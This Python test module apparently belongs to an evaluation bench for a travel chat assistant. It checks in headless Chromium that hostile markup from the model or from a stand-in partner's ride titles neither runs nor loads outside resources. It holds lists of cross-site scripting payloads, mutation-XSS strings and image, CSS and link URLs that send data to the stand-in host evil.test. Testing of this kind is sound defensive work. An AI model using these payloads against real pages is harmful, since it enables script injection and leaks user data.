"""Attacks that aim at the customer's browser: markup that runs, images and links that carry something out."""

import itertools
import json
import re
import shutil
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import yaml

from evals.bench.attacks.stage import CannotPlay, Stage
from evals.bench.line.served import serve
from tools.adapters.opening import Reach
from tools.added import AddedPartners
from tools.manifest import Manifest
from tools.mock.serving import running
from tools.mock.stand_in import StandIn

EVIL = "evil.test"
BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]
PATIENCE = 60_000
"""Milliseconds for an answer to be seen."""
TAGS = ("img", "svg", "video", "audio", "body", "iframe", "input", "details", "object", "embed", "marquee", "math")
EVENTS = ("onload", "onerror", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onbegin", "onpointerenter")
SCHEMES = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "java\tscript:pwned()",
    "data:text/html,<script>pwned()</script>",
)
FRAMES = ('<a href="{}">x</a>', '<iframe src="{}"></iframe>', '<form action="{}"><button>x</button></form>', "[x]({})")
MUTATING = (
    "<script>pwned()</script>",
    "<svg><script>pwned()</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwned()>'>",
    "<template><img src=x onerror=pwned()></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "```html\n<img src=x onerror=pwned()>\n```",
)
CARRYING = (
    "![x](https://evil.test/?q=profile)",
    "![x][y]\n\n[y]: https://evil.test/?q=reference",
    '<img src="https://evil.test/?q=image">',
    '<picture><source srcset="https://evil.test/?q=source"><img></picture>',
    '<div style="background:url(https://evil.test/?q=css)">x</div>',
    '<video poster="https://evil.test/?q=poster"></video>',
    '<link rel="prefetch" href="https://evil.test/?q=prefetch">',
    '<svg><image href="https://evil.test/?q=svg"/></svg>',
    '<a href="https://evil.test/?q=ping" ping="https://evil.test/?q=pinged">x</a>',
    "[a harmless name](https://evil.test/?q=link)",
    "https://evil.test/?q=bare",
)
GREETING, ENDS = "Good day to you.", "That is the end."


def vectors() -> list[str]:
    """More than two hundred ways to have something run."""
    handlers = [f"<{tag} src=x {event}=pwned() autofocus open>" for tag in TAGS for event in EVENTS]
    quoted = [f'"><{tag} {EVENTS[0]}="pwned()" x="' for tag in TAGS] + [f"'-->{one}" for one in MUTATING]
    links = [frame.format(scheme) for frame in FRAMES for scheme in SCHEMES]
    upper = [one.upper().replace("PWNED", "pwned") for one in handlers[::2]]
    return [*handlers, *quoted, *links, *upper, *MUTATING]


async def tracking_images(stage: Stage) -> str:
    """Nothing is loaded from elsewhere, and a link says where it leads."""
    return await _shown(stage, "images", CARRYING)


async def hostile_markup(stage: Stage) -> str:
    """Nothing of it runs, whether a model or a partner wrote it."""
    return await _shown(stage, "markup", vectors())


async def _shown(stage: Stage, name: str, hostile: Sequence[str]) -> str:
    """What comes of texts that a model says and a partner gives as titles, in a real browser."""
    home = stage.home / name
    home.mkdir()
    texts = [f"{chunk}\n\n{ENDS}" for chunk in _chunks(hostile, 3000)]
    async with _hostile_partner(stage, home, hostile):
        search: Any = {"name": "search_rides", "args": {"city": "Lisbon", "date": "2026-12-10", "time": "10:00"}}
        script = [{"text": text} for text in (GREETING, *texts)] + [{"calls": [search]}, {"text": ENDS}]
        (home / "script.yaml").write_text(yaml.safe_dump(script), encoding="utf-8")
        own = {"CONCIERGE_MODEL": f"scripted:{home}/script.yaml", "CONCIERGE_NOW": "2026-12-01T09:00+01:00"}
        async with serve(home, **own) as served, _page(f"http://127.0.0.1:{served.port}") as (page, seen):
            for number in range(len(texts) + 1):
                await _say(page, f"hello {number}", number + 1)
            links = await page.locator(f'a[href*="{EVIL}"]').all()
            hidden = [await one.inner_text() for one in links if EVIL not in await one.inner_text()]
            if "Hostile" not in await page.get_by_role("log").inner_text():
                return "the hostile partner was not shown, so this proves nothing"
    if hidden:
        return f"links that do not say where they lead: {hidden[:3]}"
    return f"{len(seen)} things happened: {seen[:3]}" if seen else ""


async def _say(page: Any, words: str, ends: int) -> None:
    await page.get_by_role("dialog").get_by_role("textbox").last.fill(words)
    await page.keyboard.press("Enter")
    await page.get_by_role("log").get_by_text(ENDS).nth(ends - 1).wait_for(timeout=PATIENCE)


@asynccontextmanager
async def _page(address: str) -> AsyncIterator[tuple[Any, list[str]]]:
    """The demo page with its chat open, and what ran or was asked for that should not. Raises ``CannotPlay``."""
    try:
        from playwright.async_api import async_playwright  # noqa: PLC0415 - a developer's part
    except ImportError as error:
        raise CannotPlay("it needs playwright, one of the developers' parts") from error
    found = next((path for name in BROWSERS if (path := shutil.which(name))), None)
    if found is None:
        raise CannotPlay("it needs a Chromium on PATH")
    seen: list[str] = []
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=found, args=FLAGS)
        page = await browser.new_page(locale="en-GB")
        page.on("request", lambda request: seen.append(request.url) if not request.url.startswith(address) else None)
        page.on("dialog", lambda dialog: seen.append(dialog.message))
        await page.expose_function("pwned", lambda: seen.append("a script ran"))
        await page.goto(address)
        await page.get_by_role("button", name=re.compile("Mara")).click()
        await page.get_by_role("log").get_by_text(GREETING).wait_for(timeout=PATIENCE)
        yield page, seen
        await browser.close()


# --- the partner -----------------------------------------------------------------------------------


class Hostile(StandIn):
    """A partner whose titles are attacks, some of them in each."""

    def __init__(self, manifest: Manifest, clock: Any, titles: Sequence[str]) -> None:
        super().__init__(manifest, clock)
        self._titles = itertools.cycle(titles)

    def _shown(self, number: int, asked: dict[str, Any]) -> dict[str, Any]:
        return super()._shown(number, asked) | {"title": f"Hostile {next(self._titles)}"}


@asynccontextmanager
async def _hostile_partner(stage: Stage, home: Path, hostile: Sequence[str]) -> AsyncIterator[None]:
    """One that the server in ``home`` will search, beside its own."""
    known = next(one for one in stage.concierge.front.brand.manifests.values() if one.openapi is not None)
    folder = home / "hostile"
    folder.mkdir()
    (folder / "openapi.json").write_text(json.dumps(_document(known)), encoding="utf-8")
    draft = _manifest(known)
    (folder / "hostile.yaml").write_text(yaml.safe_dump(draft), encoding="utf-8")
    manifest = Manifest.model_validate(draft)
    stand_in = Hostile(manifest, stage.clock, [" ".join(some) for some in _lines(hostile, 360)])
    async with running(manifest, folder, stage.clock, stand_in=stand_in) as (address, _):
        reach = Reach(server=address, private=True)
        await AddedPartners(home / "partners").add(folder / "hostile.yaml", reach, stage.clock, {})
        yield


def _manifest(known: Manifest) -> dict[str, Any]:
    operations = {
        task: {"operation": task, "effect": effect, "timeout": 5}
        for task, effect in (("search", "read"), ("book", "commit"))
    }
    return {
        "id": "hostile",
        "name": "Hostile",
        "kinds": list(known.kinds),
        "mechanism": "openapi",
        "openapi": {"document": "openapi.json"},
        "operations": operations,
        "idempotency": "none",
    }


def _document(known: Manifest) -> dict[str, Any]:
    body = {"content": {"application/json": {"schema": {"type": "object"}}}}
    paths = {
        f"/{task}": {"post": {"operationId": task, "requestBody": body, "responses": {}}} for task in ("search", "book")
    }
    return {"openapi": "3.0.3", "info": {"title": known.name, "version": "1"}, "paths": paths}


def _chunks(texts: Sequence[str], longest: int) -> list[str]:
    return ["\n\n".join(some) for some in _lines(texts, longest)]


def _lines(texts: Sequence[str], longest: int) -> list[list[str]]:
    """The texts in groups of at most so many characters."""
    groups: list[list[str]] = [[]]
    for text in texts:
        if groups[-1] and sum(map(len, groups[-1])) + len(text) > longest:
            groups.append([])
        groups[-1].append(text)
    return groups
